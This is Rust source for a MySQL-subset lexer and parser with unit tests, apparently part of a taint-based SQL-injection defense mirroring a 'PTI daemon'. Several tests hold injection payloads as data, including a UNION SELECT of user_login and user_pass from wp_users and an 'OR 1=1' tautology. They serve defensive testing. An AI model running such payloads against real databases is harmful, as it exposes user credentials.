        TokenKind::Comment // unterminated
    }

    fn number(&mut self) -> TokenKind {
        // Hex literal 0x...
        if self.src[self.pos] == b'0'
            && matches!(self.peek(1), Some(b'x') | Some(b'X'))
            && self.peek(2).is_some_and(|c| c.is_ascii_hexdigit())
        {
            self.pos = swar::scan_hex(self.src, self.pos + 2);
            return TokenKind::Number;
        }
        self.pos = swar::scan_digits(self.src, self.pos);
        if self.peek(0) == Some(b'.') && self.peek(1).is_none_or(|c| c.is_ascii_digit()) {
            self.pos = swar::scan_digits(self.src, self.pos + 1);
        }
        // Exponent part: 1e3, 1.5E-2
        if matches!(self.peek(0), Some(b'e') | Some(b'E')) {
            let mut ahead = 1;
            if matches!(self.peek(1), Some(b'+') | Some(b'-')) {
                ahead = 2;
            }
            if self.peek(ahead).is_some_and(|c| c.is_ascii_digit()) {
                self.pos = swar::scan_digits(self.src, self.pos + ahead);
            }
        }
        TokenKind::Number
    }

    fn ident(&mut self) {
        self.pos += 1;
        self.ident_tail();
    }

    fn ident_tail(&mut self) {
        self.pos = swar::scan_ident(self.src, self.pos);
    }

    fn operator(&mut self) -> TokenKind {
        let b = self.src[self.pos];
        let two: Option<[u8; 2]> = self.peek(1).map(|n| [b, n]);
        // Multi-byte operators, longest first.
        if let Some(t) = two {
            let ops2: &[&[u8; 2]] =
                &[b"<=", b">=", b"<>", b"!=", b":=", b"||", b"&&", b"<<", b">>"];
            if ops2.iter().any(|o| **o == t) {
                self.pos += 2;
                return TokenKind::Operator;
            }
        }
        self.pos += 1;
        TokenKind::Operator
    }
}

fn is_ident_start(b: u8) -> bool {
    // Continue-set ([`swar::is_ident_byte`]) minus digits.
    !b.is_ascii_digit() && swar::is_ident_byte(b)
}

fn is_operator_start(b: u8) -> bool {
    matches!(
        b,
        b'=' | b'<'
            | b'>'
            | b'!'
            | b'+'
            | b'-'
            | b'*'
            | b'/'
            | b'%'
            | b'&'
            | b'|'
            | b'^'
            | b'~'
            | b':'
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    fn kinds(q: &str) -> Vec<TokenKind> {
        lex(q).iter().map(|t| t.kind).collect()
    }

    fn texts(q: &str) -> Vec<String> {
        lex(q).iter().map(|t| t.text(q).to_string()).collect()
    }

    #[test]
    fn empty_input() {
        assert!(lex("").is_empty());
        assert!(lex("   \t\n").is_empty());
    }

    #[test]
    fn keywords_promoted() {
        let q = "select * from t";
        let k = kinds(q);
        assert_eq!(k[0], TokenKind::Keyword);
        assert_eq!(k[2], TokenKind::Keyword);
        assert_eq!(k[3], TokenKind::Identifier);
    }

    #[test]
    fn string_with_backslash_escape() {
        let q = r"SELECT 'it\'s'";
        let t = lex(q);
        assert_eq!(t[1].kind, TokenKind::StringLit);
        assert_eq!(t[1].text(q), r"'it\'s'");
    }

    #[test]
    fn string_with_doubled_quote() {
        let q = "SELECT 'it''s'";
        let t = lex(q);
        assert_eq!(t[1].kind, TokenKind::StringLit);
        assert_eq!(t[1].text(q), "'it''s'");
    }

    #[test]
    fn unterminated_string_is_total() {
        let q = "SELECT 'oops";
        let t = lex(q);
        assert_eq!(t.len(), 2);
        assert_eq!(t[1].kind, TokenKind::StringLit);
        assert_eq!(t[1].end, q.len());
    }

    #[test]
    fn comment_styles() {
        assert_eq!(kinds("-- hi"), [TokenKind::Comment]);
        assert_eq!(kinds("# hi"), [TokenKind::Comment]);
        assert_eq!(kinds("/* hi */"), [TokenKind::Comment]);
        assert_eq!(kinds("/*! hi */"), [TokenKind::Comment]);
    }

    #[test]
    fn unterminated_block_comment() {
        let q = "SELECT /* oops";
        let t = lex(q);
        assert_eq!(t[1].kind, TokenKind::Comment);
        assert_eq!(t[1].end, q.len());
    }

    #[test]
    fn dash_dash_requires_whitespace() {
        // `1--2` is `1 - (-2)`, not a comment.
        let q = "1--2";
        assert_eq!(
            kinds(q),
            [TokenKind::Number, TokenKind::Operator, TokenKind::Operator, TokenKind::Number]
        );
        // `1-- 2` is a comment.
        assert_eq!(kinds("1-- 2"), [TokenKind::Number, TokenKind::Comment]);
        // Trailing `--` at end of input is a comment.
        assert_eq!(kinds("1 --"), [TokenKind::Number, TokenKind::Comment]);
    }

    #[test]
    fn numbers() {
        assert_eq!(kinds("42"), [TokenKind::Number]);
        assert_eq!(kinds("3.25"), [TokenKind::Number]);
        assert_eq!(kinds(".5"), [TokenKind::Number]);
        assert_eq!(kinds("0x41"), [TokenKind::Number]);
        assert_eq!(kinds("1e3"), [TokenKind::Number]);
        assert_eq!(kinds("1.5E-2"), [TokenKind::Number]);
    }

    #[test]
    fn hex_literal_span() {
        let q = "SELECT 0x414243";
        let t = lex(q);
        assert_eq!(t[1].text(q), "0x414243");
    }

    #[test]
    fn multi_byte_operators() {
        assert_eq!(
            texts("a <= b <> c != d || e"),
            ["a", "<=", "b", "<>", "c", "!=", "d", "||", "e"]
        );
    }

    #[test]
    fn backtick_identifier() {
        let q = "SELECT `wp_posts`.`ID` FROM `wp_posts`";
        let t = lex(q);
        assert_eq!(t[1].kind, TokenKind::QuotedIdentifier);
        assert_eq!(t[1].text(q), "`wp_posts`");
        assert_eq!(t[2].kind, TokenKind::Dot);
    }

    #[test]
    fn placeholders_and_variables() {
        assert_eq!(kinds("?"), [TokenKind::Placeholder]);
        assert_eq!(kinds(":name"), [TokenKind::Placeholder]);
        assert_eq!(kinds("@uservar"), [TokenKind::Variable]);
        assert_eq!(kinds("@@version"), [TokenKind::Variable]);
    }

    #[test]
    fn unknown_bytes_are_tokens() {
        let q = "SELECT \x01";
        let t = lex(q);
        assert_eq!(t[1].kind, TokenKind::Unknown);
    }

    #[test]
    fn full_injection_payload() {
        let q = "SELECT * FROM t WHERE id=-1 UNION SELECT username()-- -";
        let tx = texts(q);
        assert!(tx.contains(&"UNION".to_string()));
        assert!(tx.contains(&"username".to_string()));
        assert_eq!(lex(q).last().unwrap().kind, TokenKind::Comment);
    }

    #[test]
    fn spans_are_contiguous_and_in_bounds() {
        let q = "SELECT a, b FROM t WHERE x = 'y' AND z IN (1,2,3) -- tail";
        let mut prev_end = 0;
        for t in lex(q) {
            assert!(t.start >= prev_end);
            assert!(t.end <= q.len());
            assert!(t.start < t.end);
            prev_end = t.end;
        }
    }

    #[test]
    fn token_covers_expected_lexeme() {
        let q = "UPDATE wp_options SET option_value='x' WHERE option_name='siteurl'";
        let tx = texts(q);
        assert_eq!(tx[0], "UPDATE");
        assert_eq!(tx[tx.len() - 1], "'siteurl'");
    }
}
