//! Recursive-descent parser for the MySQL subset.
//!
//! Mirrors the PTI daemon's query parsing (§IV-C): the same parse result
//! feeds critical-token analysis, the structure cache, and the in-memory
//! database engine. Comments are skipped during parsing (they are still
//! tokens for the taint analyses, but do not affect execution).

use crate::ast::*;
use crate::lexer::lex;
use crate::token::{Token, TokenKind};
use crate::value::Value;
use std::fmt;

/// An error produced while parsing a statement.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ParseError {
    /// Byte offset in the source where the error occurred.
    pub offset: usize,
    /// Human-readable description.
    pub message: String,
}

impl fmt::Display for ParseError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "parse error at byte {}: {}", self.offset, self.message)
    }
}

impl std::error::Error for ParseError {}

/// Parses one SQL statement (a trailing semicolon is permitted).
///
/// # Errors
///
/// Returns [`ParseError`] when the statement is not valid in the supported
/// subset — including, importantly, most *broken* injection attempts, which
/// real MySQL would also reject.
///
/// # Examples
///
/// ```
/// use joza_sqlparse::parser::parse;
/// use joza_sqlparse::ast::Statement;
///
/// let stmt = parse("SELECT id, name FROM users WHERE id = 7 LIMIT 1")?;
/// assert!(matches!(stmt, Statement::Select(_)));
/// assert!(parse("SELECT * FROM t WHERE x = 'unterminated").is_err());
/// # Ok::<(), joza_sqlparse::ParseError>(())
/// ```
pub fn parse(source: &str) -> Result<Statement, ParseError> {
    let tokens: Vec<Token> =
        lex(source).into_iter().filter(|t| t.kind != TokenKind::Comment).collect();
    // Reject unterminated string literals: the lexer is total, but real
    // MySQL errors out, and execution must not accept them.
    for t in &tokens {
        if t.kind == TokenKind::StringLit {
            let text = t.text(source);
            let quote = text.as_bytes()[0];
            if text.len() < 2 || text.as_bytes()[text.len() - 1] != quote {
                return Err(ParseError {
                    offset: t.start,
                    message: "unterminated string literal".into(),
                });
            }
        }
        if t.kind == TokenKind::Unknown {
            return Err(ParseError {
                offset: t.start,
                message: format!("unexpected byte {:?}", t.text(source)),
            });
        }
    }
    let mut p = Parser { src: source, tokens, pos: 0 };
    let stmt = p.statement()?;
    p.eat_kind(TokenKind::Semicolon);
    if let Some(t) = p.peek() {
        return Err(p.err_at(t, "trailing input after statement"));
    }
    Ok(stmt)
}

struct Parser<'a> {
    src: &'a str,
    tokens: Vec<Token>,
    pos: usize,
}

type PResult<T> = Result<T, ParseError>;

impl<'a> Parser<'a> {
    fn peek(&self) -> Option<Token> {
        self.tokens.get(self.pos).copied()
    }

    fn peek_text(&self) -> Option<&'a str> {
        self.peek().map(|t| t.text(self.src))
    }

    fn err_here(&self, message: impl Into<String>) -> ParseError {
        let offset = self.peek().map_or(self.src.len(), |t| t.start);
        ParseError { offset, message: message.into() }
    }

    fn err_at(&self, t: Token, message: impl Into<String>) -> ParseError {
        ParseError { offset: t.start, message: message.into() }
    }

    /// Consumes the next token if it is the given keyword (case-insensitive).
    fn eat_kw(&mut self, kw: &str) -> bool {
        if self.at_kw(kw) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn at_kw(&self, kw: &str) -> bool {
        self.peek().is_some_and(|t| {
            t.kind == TokenKind::Keyword && t.text(self.src).eq_ignore_ascii_case(kw)
        })
    }

    fn expect_kw(&mut self, kw: &str) -> PResult<()> {
        if self.eat_kw(kw) {
            Ok(())
        } else {
            Err(self.err_here(format!("expected {kw}")))
        }
    }

    fn eat_kind(&mut self, kind: TokenKind) -> bool {
        if self.peek().is_some_and(|t| t.kind == kind) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn expect_kind(&mut self, kind: TokenKind) -> PResult<Token> {
        match self.peek() {
            Some(t) if t.kind == kind => {
                self.pos += 1;
                Ok(t)
            }
            _ => Err(self.err_here(format!("expected {kind}"))),
        }
    }

    /// Consumes the next token if it is the given operator text.
    fn eat_op(&mut self, op: &str) -> bool {
        if self.peek().is_some_and(|t| t.kind == TokenKind::Operator && t.text(self.src) == op) {
            self.pos += 1;
            true
        } else {
            false
        }
    }

    fn ident(&mut self) -> PResult<String> {
        match self.peek() {
            Some(t) if t.kind == TokenKind::Identifier => {
                self.pos += 1;
                Ok(t.text(self.src).to_string())
            }
            Some(t) if t.kind == TokenKind::QuotedIdentifier => {
                self.pos += 1;
                let text = t.text(self.src);
                Ok(text.trim_matches('`').to_string())
            }
            _ => Err(self.err_here("expected identifier")),
        }
    }

    fn statement(&mut self) -> PResult<Statement> {
        if self.at_kw("SELECT") {
            Ok(Statement::Select(self.select()?))
        } else if self.eat_kw("INSERT") {
            self.insert().map(Statement::Insert)
        } else if self.eat_kw("UPDATE") {
            self.update().map(Statement::Update)
        } else if self.eat_kw("DELETE") {
            self.delete().map(Statement::Delete)
        } else if self.eat_kw("REPLACE") {
            // REPLACE INTO behaves as INSERT for our engine.
            self.insert().map(Statement::Insert)
        } else {
            Err(self.err_here("expected SELECT, INSERT, UPDATE, DELETE or REPLACE"))
        }
    }

    fn select(&mut self) -> PResult<SelectStatement> {
        let mut stmt = self.select_body()?;
        while self.eat_kw("UNION") {
            let op = if self.eat_kw("ALL") { SetOp::UnionAll } else { SetOp::Union };
            let rhs = self.select_body()?;
            stmt.set_ops.push((op, rhs));
        }
        Ok(stmt)
    }

    fn select_body(&mut self) -> PResult<SelectStatement> {
        self.expect_kw("SELECT")?;
        let mut stmt = SelectStatement { distinct: self.eat_kw("DISTINCT"), ..Default::default() };
        if self.eat_kw("ALL") {
            // SELECT ALL is the default; nothing to record.
        }
        loop {
            stmt.projections.push(self.projection()?);
            if !self.eat_kind(TokenKind::Comma) {
                break;
            }
        }
        if self.eat_kw("FROM") {
            stmt.from = Some(self.table_ref()?);
            loop {
                let kind = if self.eat_kw("CROSS") {
                    self.expect_kw("JOIN")?;
                    JoinKind::Cross
                } else if self.eat_kw("INNER") {
                    self.expect_kw("JOIN")?;
                    JoinKind::Inner
                } else if self.eat_kw("LEFT") {
                    self.eat_kw("OUTER");
                    self.expect_kw("JOIN")?;
                    JoinKind::Left
                } else if self.eat_kw("JOIN") {
                    JoinKind::Inner
                } else {
                    break;
                };
                let table = self.table_ref()?;
                let on = if self.eat_kw("ON") { Some(self.expr()?) } else { None };
                stmt.joins.push(Join { kind, table, on });
            }
        }
        if self.eat_kw("WHERE") {
            stmt.where_clause = Some(self.expr()?);
        }
        if self.eat_kw("GROUP") {
            self.expect_kw("BY")?;
            loop {
                stmt.group_by.push(self.expr()?);
                if !self.eat_kind(TokenKind::Comma) {
                    break;
                }
            }
        }
        if self.eat_kw("HAVING") {
            stmt.having = Some(self.expr()?);
        }
        if self.eat_kw("ORDER") {
            self.expect_kw("BY")?;
            loop {
                let expr = self.expr()?;
                let desc = if self.eat_kw("DESC") {
                    true
                } else {
                    self.eat_kw("ASC");
                    false
                };
                stmt.order_by.push(OrderItem { expr, desc });
                if !self.eat_kind(TokenKind::Comma) {
                    break;
                }
            }
        }
        stmt.limit = self.limit_clause()?;
        // FOR UPDATE / LOCK IN SHARE MODE: accept and ignore.
        if self.eat_kw("FOR") {
            self.expect_kw("UPDATE")?;
        }
        Ok(stmt)
    }

    fn limit_clause(&mut self) -> PResult<Option<Limit>> {
        if !self.eat_kw("LIMIT") {
            return Ok(None);
        }
        let first = self.expr()?;
        if self.eat_kind(TokenKind::Comma) {
            let count = self.expr()?;
            Ok(Some(Limit { offset: Some(first), count }))
        } else if self.eat_kw("OFFSET") {
            let offset = self.expr()?;
            Ok(Some(Limit { offset: Some(offset), count: first }))
        } else {
            Ok(Some(Limit { offset: None, count: first }))
        }
    }

    fn projection(&mut self) -> PResult<Projection> {
        if self.eat_op("*") {
            return Ok(Projection::Wildcard);
        }
        // t.* qualified wildcard
        if let Some(t) = self.peek() {
            if matches!(t.kind, TokenKind::Identifier | TokenKind::QuotedIdentifier)
                && self.tokens.get(self.pos + 1).is_some_and(|d| d.kind == TokenKind::Dot)
                && self
                    .tokens
                    .get(self.pos + 2)
                    .is_some_and(|s| s.kind == TokenKind::Operator && s.text(self.src) == "*")
            {
                let name = self.ident()?;
                self.pos += 2; // consume `.` and `*`
                return Ok(Projection::QualifiedWildcard(name));
            }
        }
        let expr = self.expr()?;
        let alias = if self.eat_kw("AS") {
            Some(self.ident()?)
        } else if self
            .peek()
            .is_some_and(|t| matches!(t.kind, TokenKind::Identifier | TokenKind::QuotedIdentifier))
        {
            // Implicit alias: `SELECT a b FROM …`
            Some(self.ident()?)
        } else {
            None
        };
        Ok(Projection::Expr { expr, alias })
    }

    fn table_ref(&mut self) -> PResult<TableRef> {
        let name = self.ident()?;
        let alias = if self.eat_kw("AS")
            || self.peek().is_some_and(|t| {
                matches!(t.kind, TokenKind::Identifier | TokenKind::QuotedIdentifier)
            }) {
            Some(self.ident()?)
        } else {
            None
        };
        Ok(TableRef { name, alias })
    }

    fn insert(&mut self) -> PResult<InsertStatement> {
        self.eat_kw("INTO");
        let table = self.ident()?;
        let mut columns = Vec::new();
        if self.eat_kind(TokenKind::LParen) {
            loop {
                columns.push(self.ident()?);
                if !self.eat_kind(TokenKind::Comma) {
                    break;
                }
            }
            self.expect_kind(TokenKind::RParen)?;
        }
        self.expect_kw("VALUES")?;
        let mut rows = Vec::new();
        loop {
            self.expect_kind(TokenKind::LParen)?;
            let mut row = Vec::new();
            if !self.eat_kind(TokenKind::RParen) {
                loop {
                    row.push(self.expr()?);
                    if !self.eat_kind(TokenKind::Comma) {
                        break;
                    }
                }
                self.expect_kind(TokenKind::RParen)?;
            }
            rows.push(row);
            if !self.eat_kind(TokenKind::Comma) {
                break;
            }
        }
        Ok(InsertStatement { table, columns, rows })
    }

    fn update(&mut self) -> PResult<UpdateStatement> {
        let table = self.ident()?;
        self.expect_kw("SET")?;
        let mut assignments = Vec::new();
        loop {
            let col = self.ident()?;
            if !self.eat_op("=") {
                return Err(self.err_here("expected = in assignment"));
            }
            assignments.push((col, self.expr()?));
            if !self.eat_kind(TokenKind::Comma) {
                break;
            }
        }
        let where_clause = if self.eat_kw("WHERE") { Some(self.expr()?) } else { None };
        let limit = self.limit_clause()?;
        Ok(UpdateStatement { table, assignments, where_clause, limit })
    }

    fn delete(&mut self) -> PResult<DeleteStatement> {
        self.expect_kw("FROM")?;
        let table = self.ident()?;
        let where_clause = if self.eat_kw("WHERE") { Some(self.expr()?) } else { None };
        let limit = self.limit_clause()?;
        Ok(DeleteStatement { table, where_clause, limit })
    }

    // ----- expressions, precedence climbing -----

    fn expr(&mut self) -> PResult<Expr> {
        self.or_expr()
    }

    fn or_expr(&mut self) -> PResult<Expr> {
        let mut left = self.and_expr()?;
        loop {
            let op = if self.eat_kw("OR") || self.eat_op("||") {
                BinaryOp::Or
            } else if self.eat_kw("XOR") {
                BinaryOp::Xor
            } else {
                break;
            };
            let right = self.and_expr()?;
            left = Expr::Binary { left: Box::new(left), op, right: Box::new(right) };
        }
        Ok(left)
    }

    fn and_expr(&mut self) -> PResult<Expr> {
        let mut left = self.not_expr()?;
        while self.eat_kw("AND") || self.eat_op("&&") {
            let right = self.not_expr()?;
            left = Expr::Binary { left: Box::new(left), op: BinaryOp::And, right: Box::new(right) };
        }
        Ok(left)
    }

    fn not_expr(&mut self) -> PResult<Expr> {
        if self.eat_kw("NOT") {
            let inner = self.not_expr()?;
            Ok(Expr::Unary { op: UnaryOp::Not, expr: Box::new(inner) })
        } else {
            self.comparison()
        }
    }

    fn comparison(&mut self) -> PResult<Expr> {
        let left = self.additive()?;
        // IS [NOT] NULL / TRUE / FALSE
        if self.eat_kw("IS") {
            let negated = self.eat_kw("NOT");
            if self.eat_kw("NULL") {
                return Ok(Expr::IsNull { expr: Box::new(left), negated });
            }
            if self.eat_kw("TRUE") || self.eat_kw("FALSE") {
                // Desugar to = 1 / = 0 with optional negation.
                let truth = matches!(
                    self.tokens[self.pos - 1].text(self.src).to_ascii_uppercase().as_str(),
                    "TRUE"
                );
                let want = truth != negated;
                return Ok(Expr::Binary {
                    left: Box::new(left),
                    op: BinaryOp::Eq,
                    right: Box::new(Expr::lit(i64::from(want))),
                });
            }
            return Err(self.err_here("expected NULL, TRUE or FALSE after IS"));
        }
        let negated = self.eat_kw("NOT");
        if self.eat_kw("IN") {
            self.expect_kind(TokenKind::LParen)?;
            if self.at_kw("SELECT") {
                let sub = self.select()?;
                self.expect_kind(TokenKind::RParen)?;
                return Ok(Expr::InSubquery {
                    expr: Box::new(left),
                    subquery: Box::new(sub),
                    negated,
                });
            }
            let mut list = Vec::new();
            loop {
                list.push(self.expr()?);
                if !self.eat_kind(TokenKind::Comma) {
                    break;
                }
            }
            self.expect_kind(TokenKind::RParen)?;
            return Ok(Expr::InList { expr: Box::new(left), list, negated });
        }
        if self.eat_kw("BETWEEN") {
            let low = self.additive()?;
            self.expect_kw("AND")?;
            let high = self.additive()?;
            return Ok(Expr::Between {
                expr: Box::new(left),
                low: Box::new(low),
                high: Box::new(high),
                negated,
            });
        }
        if self.eat_kw("LIKE") {
            let pattern = self.additive()?;
            return Ok(Expr::Like { expr: Box::new(left), pattern: Box::new(pattern), negated });
        }
        if self.eat_kw("REGEXP") || self.eat_kw("RLIKE") {
            let pattern = self.additive()?;
            let e = Expr::Binary {
                left: Box::new(left),
                op: BinaryOp::Regexp,
                right: Box::new(pattern),
            };
            return Ok(if negated {
                Expr::Unary { op: UnaryOp::Not, expr: Box::new(e) }
            } else {
                e
            });
        }
        if negated {
            return Err(self.err_here("expected IN, BETWEEN, LIKE or REGEXP after NOT"));
        }
        let op = if self.eat_op("=") {
            Some(BinaryOp::Eq)
        } else if self.eat_op("<>") || self.eat_op("!=") {
            Some(BinaryOp::NotEq)
        } else if self.eat_op("<=") {
            Some(BinaryOp::LtEq)
        } else if self.eat_op(">=") {
            Some(BinaryOp::GtEq)
        } else if self.eat_op("<") {
            Some(BinaryOp::Lt)
        } else if self.eat_op(">") {
            Some(BinaryOp::Gt)
        } else {
            None
        };
        match op {
            Some(op) => {
                let right = self.additive()?;
                Ok(Expr::Binary { left: Box::new(left), op, right: Box::new(right) })
            }
            None => Ok(left),
        }
    }

    fn additive(&mut self) -> PResult<Expr> {
        let mut left = self.multiplicative()?;
        loop {
            let op = if self.eat_op("+") {
                BinaryOp::Add
            } else if self.eat_op("-") {
                BinaryOp::Sub
            } else {
                break;
            };
            let right = self.multiplicative()?;
            left = Expr::Binary { left: Box::new(left), op, right: Box::new(right) };
        }
        Ok(left)
    }

    fn multiplicative(&mut self) -> PResult<Expr> {
        let mut left = self.unary()?;
        loop {
            let op = if self.eat_op("*") {
                BinaryOp::Mul
            } else if self.eat_op("/") || self.eat_kw("DIV") {
                BinaryOp::Div
            } else if self.eat_op("%") || self.eat_kw("MOD") {
                BinaryOp::Mod
            } else {
                break;
            };
            let right = self.unary()?;
            left = Expr::Binary { left: Box::new(left), op, right: Box::new(right) };
        }
        Ok(left)
    }

    fn unary(&mut self) -> PResult<Expr> {
        if self.eat_op("-") {
            let inner = self.unary()?;
            return Ok(Expr::Unary { op: UnaryOp::Neg, expr: Box::new(inner) });
        }
        if self.eat_op("+") {
            let inner = self.unary()?;
            return Ok(Expr::Unary { op: UnaryOp::Plus, expr: Box::new(inner) });
        }
        if self.eat_op("!") {
            let inner = self.unary()?;
            return Ok(Expr::Unary { op: UnaryOp::Not, expr: Box::new(inner) });
        }
        self.primary()
    }

    fn primary(&mut self) -> PResult<Expr> {
        let t = self.peek().ok_or_else(|| self.err_here("unexpected end of input"))?;
        match t.kind {
            TokenKind::Number => {
                self.pos += 1;
                let text = t.text(self.src);
                Ok(Expr::Literal(parse_number(text)))
            }
            TokenKind::StringLit => {
                self.pos += 1;
                Ok(Expr::Literal(Value::Str(unescape_string(t.text(self.src)))))
            }
            TokenKind::Placeholder => {
                self.pos += 1;
                Ok(Expr::Placeholder(t.text(self.src).to_string()))
            }
            TokenKind::Variable => {
                self.pos += 1;
                Ok(Expr::Variable(t.text(self.src).to_string()))
            }
            TokenKind::LParen => {
                self.pos += 1;
                if self.at_kw("SELECT") {
                    let sub = self.select()?;
                    self.expect_kind(TokenKind::RParen)?;
                    return Ok(Expr::Subquery(Box::new(sub)));
                }
                let inner = self.expr()?;
                self.expect_kind(TokenKind::RParen)?;
                Ok(inner)
            }
            TokenKind::Keyword => {
                let kw = t.text(self.src).to_ascii_uppercase();
                match kw.as_str() {
                    "NULL" => {
                        self.pos += 1;
                        Ok(Expr::Literal(Value::Null))
                    }
                    "TRUE" => {
                        self.pos += 1;
                        Ok(Expr::Literal(Value::Int(1)))
                    }
                    "FALSE" => {
                        self.pos += 1;
                        Ok(Expr::Literal(Value::Int(0)))
                    }
                    "EXISTS" => {
                        self.pos += 1;
                        self.expect_kind(TokenKind::LParen)?;
                        let sub = self.select()?;
                        self.expect_kind(TokenKind::RParen)?;
                        Ok(Expr::Exists(Box::new(sub)))
                    }
                    "CASE" => {
                        self.pos += 1;
                        self.case_expr()
                    }
                    // Keywords that double as function names (e.g.
                    // DATABASE(), REPLACE(x,y,z), BENCHMARK(...)).
                    "DATABASE" | "REPLACE" | "BENCHMARK" | "DEFAULT" | "KEY"
                        if self
                            .tokens
                            .get(self.pos + 1)
                            .is_some_and(|n| n.kind == TokenKind::LParen) =>
                    {
                        self.pos += 1;
                        self.function_call(kw)
                    }
                    _ => Err(self.err_at(t, format!("unexpected keyword {kw}"))),
                }
            }
            TokenKind::Identifier | TokenKind::QuotedIdentifier => {
                let name = self.ident()?;
                // Function call?
                if self.peek().is_some_and(|n| n.kind == TokenKind::LParen) {
                    return self.function_call(name.to_ascii_uppercase());
                }
                // Qualified column t.col
                if self.eat_kind(TokenKind::Dot) {
                    let col = self.ident()?;
                    return Ok(Expr::Column(ColumnRef { table: Some(name), name: col }));
                }
                Ok(Expr::Column(ColumnRef { table: None, name }))
            }
            _ => Err(self.err_at(t, format!("unexpected token {}", t.kind))),
        }
    }

    fn function_call(&mut self, name: String) -> PResult<Expr> {
        self.expect_kind(TokenKind::LParen)?;
        let distinct = self.eat_kw("DISTINCT");
        let mut args = Vec::new();
        if !self.eat_kind(TokenKind::RParen) {
            loop {
                if self.peek().is_some_and(|t| t.kind == TokenKind::Operator)
                    && self.peek_text() == Some("*")
                {
                    self.pos += 1;
                    args.push(Expr::Wildcard);
                } else {
                    args.push(self.expr()?);
                }
                if !self.eat_kind(TokenKind::Comma) {
                    break;
                }
            }
            self.expect_kind(TokenKind::RParen)?;
        }
        Ok(Expr::Function { name, args, distinct })
    }

    fn case_expr(&mut self) -> PResult<Expr> {
        let operand = if self.at_kw("WHEN") { None } else { Some(Box::new(self.expr()?)) };
        let mut branches = Vec::new();
        while self.eat_kw("WHEN") {
            let cond = self.expr()?;
            self.expect_kw("THEN")?;
            let then = self.expr()?;
            branches.push((cond, then));
        }
        if branches.is_empty() {
            return Err(self.err_here("CASE requires at least one WHEN"));
        }
        let else_arm = if self.eat_kw("ELSE") { Some(Box::new(self.expr()?)) } else { None };
        self.expect_kw("END")?;
        Ok(Expr::Case { operand, branches, else_arm })
    }
}

fn parse_number(text: &str) -> Value {
    if let Some(hex) = text.strip_prefix("0x").or_else(|| text.strip_prefix("0X")) {
        // MySQL hex literals are strings in most contexts; decode to text
        // when the bytes are printable (this is how CHAR-less payloads
        // smuggle strings), otherwise keep the integer value.
        if hex.len() % 2 == 0 {
            let bytes: Vec<u8> = (0..hex.len())
                .step_by(2)
                .map(|i| u8::from_str_radix(&hex[i..i + 2], 16).unwrap_or(0))
                .collect();
            if !bytes.is_empty() && bytes.iter().all(|b| b.is_ascii_graphic() || *b == b' ') {
                if let Ok(s) = String::from_utf8(bytes) {
                    return Value::Str(s);
                }
            }
        }
        return Value::Int(i64::from_str_radix(hex, 16).unwrap_or(0));
    }
    if let Ok(i) = text.parse::<i64>() {
        Value::Int(i)
    } else {
        Value::Float(text.parse::<f64>().unwrap_or(0.0))
    }
}

fn unescape_string(quoted: &str) -> String {
    let bytes = quoted.as_bytes();
    let quote = bytes[0];
    let inner = &quoted[1..quoted.len() - 1];
    let mut out = String::with_capacity(inner.len());
    let mut chars = inner.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            match chars.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some('r') => out.push('\r'),
                Some('0') => out.push('\0'),
                Some(other) => out.push(other),
                None => out.push('\\'),
            }
        } else if c as u32 == quote as u32 && chars.peek().copied() == Some(c) {
            chars.next();
            out.push(c);
        } else {
            out.push(c);
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sel(q: &str) -> SelectStatement {
        match parse(q).unwrap() {
            Statement::Select(s) => s,
            other => panic!("expected select, got {other:?}"),
        }
    }

    #[test]
    fn simple_select() {
        let s = sel("SELECT id, name FROM users");
        assert_eq!(s.projections.len(), 2);
        assert_eq!(s.from.as_ref().unwrap().name, "users");
    }

    #[test]
    fn select_without_from() {
        let s = sel("SELECT 1");
        assert!(s.from.is_none());
        assert_eq!(s.projections.len(), 1);
    }

    #[test]
    fn wildcard_and_qualified_wildcard() {
        let s = sel("SELECT *, t.* FROM t");
        assert_eq!(s.projections[0], Projection::Wildcard);
        assert_eq!(s.projections[1], Projection::QualifiedWildcard("t".into()));
    }

    #[test]
    fn where_precedence() {
        let s = sel("SELECT * FROM t WHERE a = 1 OR b = 2 AND c = 3");
        // OR at the top, AND nested on the right.
        match s.where_clause.unwrap() {
            Expr::Binary { op: BinaryOp::Or, right, .. } => {
                assert!(matches!(*right, Expr::Binary { op: BinaryOp::And, .. }));
            }
            other => panic!("unexpected {other:?}"),
        }
    }

    #[test]
    fn union_chain() {
        let s = sel("SELECT a FROM t UNION SELECT b FROM u UNION ALL SELECT c FROM v");
        assert_eq!(s.set_ops.len(), 2);
        assert_eq!(s.set_ops[0].0, SetOp::Union);
        assert_eq!(s.set_ops[1].0, SetOp::UnionAll);
    }

    #[test]
    fn classic_union_injection_parses() {
        let q = "SELECT * FROM wp_posts WHERE ID=-1 UNION SELECT user_login, user_pass FROM wp_users-- -";
        let s = sel(q);
        assert_eq!(s.set_ops.len(), 1);
    }

    #[test]
    fn tautology_parses() {
        let s = sel("SELECT * FROM t WHERE id=1 OR 1=1");
        assert!(matches!(s.where_clause.unwrap(), Expr::Binary { op: BinaryOp::Or, .. }));
    }

    #[test]
    fn limit_variants() {
        assert!(sel("SELECT * FROM t LIMIT 5").limit.is_some());
        let l = sel("SELECT * FROM t LIMIT 10, 5").limit.unwrap();
        assert!(l.offset.is_some());
        let l = sel("SELECT * FROM t LIMIT 5 OFFSET 10").limit.unwrap();
        assert!(l.offset.is_some());
    }

    #[test]
    fn joins() {
        let s = sel(
            "SELECT p.ID FROM wp_posts p LEFT JOIN wp_postmeta m ON p.ID = m.post_id WHERE m.k = 'x'",
        );
        assert_eq!(s.joins.len(), 1);
        assert_eq!(s.joins[0].kind, JoinKind::Left);
    }

    #[test]
    fn group_by_having_order_by() {
        let s = sel(
            "SELECT author, COUNT(*) FROM posts GROUP BY author HAVING COUNT(*) > 3 ORDER BY author DESC",
        );
        assert_eq!(s.group_by.len(), 1);
        assert!(s.having.is_some());
        assert!(s.order_by[0].desc);
    }

    #[test]
    fn insert_forms() {
        let i = match parse("INSERT INTO t (a, b) VALUES (1, 'x'), (2, 'y')").unwrap() {
            Statement::Insert(i) => i,
            other => panic!("{other:?}"),
        };
        assert_eq!(i.columns, ["a", "b"]);
